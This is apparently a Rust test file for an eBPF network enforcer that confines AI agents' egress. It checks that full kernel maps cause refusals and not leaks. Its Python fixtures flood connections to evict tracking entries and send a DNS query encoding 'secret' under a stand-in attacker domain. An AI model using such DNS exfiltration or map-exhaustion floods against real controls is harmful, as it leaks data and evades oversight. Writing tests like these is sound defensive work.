//! Maps that are full: what is pushed out of one that forgets the oldest is refused and is nobody else's, and one that forgets nothing refuses the
//! daemon, which opens nothing.

use std::net::{IpAddr, Ipv4Addr};
use std::path::PathBuf;

use aya::maps::lpm_trie::{Key, LpmTrie};
use aya::maps::{HashMap, Map, MapData, MapError};
use enforcer_ebpf::map::{ASKERS_MAX, CLASS_DEDICATED, ENDPOINTS_MAX, WINDOWS_MAX};
use enforcer_ebpf::{Endpoint, FlowKey, Origin, PortKey, Window};
use harness::cgroup;
use harness::stage::{BIGQUERY4, OTHER4, Side};
use harness::world::{Who, wait_for};
use rustix::process::Signal;
use serde_json::json;

use super::ports::{HELD_BACK, WAITS};
use super::shown::said_so;
use super::{CONNECT, EPERM, Helper, Lock, agents, cases, refusal_is_on_record, said};

/// Begins so many connections to an address, and lets go of each at once.
const BEGUN: &str = r#"
import socket, struct, sys
for _ in range(int(sys.argv[2])):
    s = socket.socket(); s.setblocking(False)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    try:
        s.connect((sys.argv[1], 443))
    except BlockingIOError:
        pass
    s.close()
"#;

/// Waits for a word, and asks for a name that carries something out; or, from so many ports, for BigQuery's.
const QUESTIONS: &str = r#"
import socket, struct, sys
print("ready", flush=True); sys.stdin.readline()
def asked(name):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    s.sendto(struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0\0\1\0\1", ("10.77.9.9", 53))
many = int(sys.argv[1])
for _ in range(many):
    asked("bigquery.googleapis.com")
if not many:
    asked("c2VjcmV0.attacker.test")
print("asked", flush=True)
"#;

/// A map of the daemon's that is pinned under a name.
fn pinned(lock: &Lock, name: &str) -> Map {
    let path = lock.world.stage.bpffs().join("enforcer/maps-v1").join(name);
    let data = lock.world.stage.on(Side::Host, || {
        MapData::from_pin(path).expect("opens the map")
    });
    Map::from_map_data(data).expect("a map")
}

/// Fills a map of the kernel's by hand, until it takes no more.
fn fill(mut insert: impl FnMut(u32) -> Result<(), MapError>, most: u32) {
    let taken = (0..=most).take_while(|number| insert(*number).is_ok());
    let taken = taken.count();
    assert!(taken > 0 && taken <= most as usize, "{taken}");
}

/// The id of the agent's own workload.
fn agents_id(lock: &Lock) -> u64 {
    cgroup::id(&lock.world.cgroup_of(Who::Agent))
}

/// Keeps all but first packets in a workload.
fn hold_back(lock: &Lock, who: Who) -> Helper {
    let cgroup: PathBuf = lock.world.cgroup_of(who);
    let mut command = lock.world.stage.command(Side::Host, "/usr/bin/python3");
    let mut helper = Helper::start(command.args(["-c", HELD_BACK, &cgroup.display().to_string()]));
    assert_eq!(helper.line(), "held back");
    helper
}

/// What comes of asking for a list of tables.
fn lists(lock: &Lock, who: Who) -> String {
    let mut command = lock.world.run_as(who, "/usr/bin/python3");
    let mut client = Helper::start(command.args(["-c", WAITS, &BIGQUERY4.to_string()]));
    assert_eq!(client.line(), "connected");
    client.tell("go");
    client.line()
}

cases! {
    /// another agent that begins connections until the one in a window is forgotten while it is being made (the map keeps the newest)
    20 Refused fn a_connection_that_is_pushed_out_of_a_full_map_is_nobodys() {
        let lock = Lock::new();
        let _ = lock.world.open_window("demo-project.finance:read", "5m");
        let origins: HashMap<_, FlowKey, Origin> = pinned(&lock, "ORIGINS-4").try_into().expect("typed");
        let id = agents_id(&lock);
        let is_known = || origins.iter().flatten().any(|(_, origin)| origin.agent_cgroup == id);
        let mut mine = hold_back(&lock, Who::Agent);
        let mut theirs = hold_back(&lock, Who::OtherAgent);
        let mut client = lock.world.run_as(Who::Agent, "/usr/bin/python3");
        let mut client = Helper::start(client.args(["-c", WAITS, &BIGQUERY4.to_string()]));
        assert_eq!(client.line(), "connected");
        assert!(is_known());
        wait_for("it to be pushed out", || {
            let mut flood = lock.world.run_as(Who::OtherAgent, "/usr/bin/python3");
            said(flood.args(["-c", BEGUN, &BIGQUERY4.to_string(), "20000"]));
            !is_known()
        });
        for held in [&mut mine, &mut theirs] {
            assert_eq!(held.close_and_line(), "let go");
        }
        client.tell("go");
        assert_eq!(client.line(), "ended");
        refusal_is_on_record(&lock.world, "caller.unknown", |event| event["agent"].is_null());
        // With the map as full as it is, each is still who it is. Without a far side there is no token.
        assert_eq!(lists(&lock, Who::Agent), "HTTP/1.1 403");
        refusal_is_on_record(&lock.world, "token.unavailable", agents);
        assert_eq!(lists(&lock, Who::OtherAgent), "HTTP/1.1 403");
        refusal_is_on_record(&lock.world, "window.none", |event| event["agent"] == "ops-bot");
        assert!(lock.world.events("query_admitted").iter().all(agents));
        lock.nothing_got_out();
    }

    /// another agent that asks for names until the one that asks for a forbidden one is forgotten (the map keeps the newest)
    20 Refused fn a_question_whose_asker_is_pushed_out_of_a_full_map_is_still_its_agents() {
        let mut lock = Lock::without_daemon();
        lock.world.edit_config("uid = 2001", "uid = 2001\ndns = \"strict\"");
        lock.world.start_daemon();
        let wire = harness::capture::Capture::of_text(&lock.world.stage, ["c2VjcmV0".to_owned()]);
        let askers: HashMap<_, PortKey, Origin> = pinned(&lock, "ASKERS").try_into().expect("typed");
        let id = agents_id(&lock);
        let is_known = || askers.iter().flatten().any(|(_, origin)| origin.agent_cgroup == id);
        let start = |who: Who, many: u32| {
            let mut command = lock.world.run_as(who, "/usr/bin/python3");
            let mut helper = Helper::start(command.args(["-c", QUESTIONS, &many.to_string()]));
            assert_eq!(helper.line(), "ready");
            helper
        };
        let (mut asks, mut floods) = (start(Who::Agent, 0), start(Who::OtherAgent, 64 * ASKERS_MAX));
        lock.world.signal_daemon(Signal::STOP);
        asks.tell("go");
        assert_eq!(asks.line(), "asked");
        let was_known = is_known();
        floods.tell("go");
        // Two seconds later nothing is led here any more: that ends the flood, which has pushed out everything by then, whichever the kernel takes first.
        let flooded = floods.line();
        let is_forgotten = !is_known();
        lock.world.signal_daemon(Signal::CONT);
        assert!(was_known && is_forgotten, "{flooded}");
        refusal_is_on_record(&lock.world, "host.not_allowed", agents);
        super::shown::nothing_on(&wire, "the name");
        lock.nothing_got_out();
    }

    /// a full map of windows: none is opened, and whoever asked for it is told
    20 FailsClosed fn a_full_map_of_windows_opens_none() {
        let lock = Lock::new();
        let mut windows: HashMap<_, u64, Window> = pinned(&lock, "WINDOWS-2").try_into().expect("typed");
        let past = Window { grant: 1, opens_boot_ns: 1, closes_boot_ns: 2 };
        fill(|number| windows.insert(u64::MAX - u64::from(number), past, 0), WINDOWS_MAX);
        let asked = ["request", "--scope", "demo-project.finance:read", "--ttl", "5m", "--reason", "month end"];
        let asked = lock.world.json(Who::Agent, &asked);
        let approved = lock.world.cli(Who::Approver, &["approve", asked["request"].as_str().expect("an id")]);
        let told = String::from_utf8_lossy(&approved.stderr);
        said_so(!approved.status.success() && told.contains("[kernel.failed]"), &told);
        let agent = lock.world.cgroup_of(Who::Agent);
        assert!(windows.get(&agents_id(&lock), 0).is_err());
        let told = said(&mut lock.script(&agent, Some(2001), CONNECT, &[&BIGQUERY4.to_string()]));
        assert_eq!(told, EPERM);
        lock.nothing_got_out();
    }

    /// a full map of protected addresses: what was protected stays so, and what has no room is said
    20 FailsClosed fn a_full_map_of_addresses_protects_what_it_did_and_says_what_is_missing() {
        let mut lock = Lock::without_daemon();
        let first = Ipv4Addr::new(10, 77, 120, 1);
        let names = |addresses: &[Ipv4Addr]| json!({"bigquery.googleapis.com": {"addresses": addresses, "ttl_s": 1}});
        lock.world.set_names(&names(&[first]));
        lock.world.start_daemon();
        let path = "ENDPOINTS4";
        let mut endpoints: LpmTrie<_, [u8; 4], Endpoint> = pinned(&lock, path).try_into().expect("typed");
        let wire = harness::capture::Capture::start(&lock.world.stage, [first.into()]);
        fill(
            |number| {
                let address = Ipv4Addr::from(u32::from(Ipv4Addr::new(10, 200, 0, 0)) + number);
                endpoints.insert(&Key::new(32, address.octets()), Endpoint { class: CLASS_DEDICATED }, 0)
            },
            ENDPOINTS_MAX,
        );
        lock.world.set_names(&names(&[first, OTHER4]));
        // The status says it only until the daemon has put right what somebody else wrote: the record of it stays.
        wait_for("the record", || {
            let said = lock.world.events("health_changed");
            said.iter().any(|event| event["faults"].to_string().contains("protected addresses in the kernel"))
        });
        said_so(true, "the record");
        let agent = lock.world.cgroup_of(Who::Agent);
        for to in [IpAddr::from(first), BIGQUERY4.into()] {
            let told = said(&mut lock.script(&agent, Some(2001), CONNECT, &[&to.to_string()]));
            assert_eq!(told, EPERM, "{to}");
        }
        // What somebody else wrote goes, and then there is room.
        wait_for("the new address", || {
            said(&mut lock.script(&agent, Some(2001), CONNECT, &[&OTHER4.to_string()])) == EPERM
        });
        super::shown::nothing_on(&wire, "the known address");
        lock.nothing_got_out();
    }
}
